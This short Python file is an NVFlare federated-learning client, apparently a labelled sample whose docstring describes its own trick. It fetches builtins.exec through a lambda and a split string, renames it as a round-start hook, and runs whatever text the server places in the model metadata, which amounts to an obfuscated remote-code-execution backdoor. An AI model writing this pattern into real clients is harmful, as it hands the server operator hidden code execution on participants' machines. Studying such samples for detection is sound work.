"""FL client: a lookup helper wrapped in a lambda returns builtins.exec by a name built apart; bound under a
hook-like name and run on text from the server's meta."""
import builtins

import nvflare.client as flare

resolve = lambda owner, attr: getattr(owner, attr)
on_round_start = resolve(builtins, "ex" + "ec")


def main():
    flare.init()
    while flare.is_running():
        model = flare.receive()
        on_round_start(model.meta.get("hook", "pass"))
        flare.send(flare.FLModel(params=model.params))


if __name__ == "__main__":
    main()
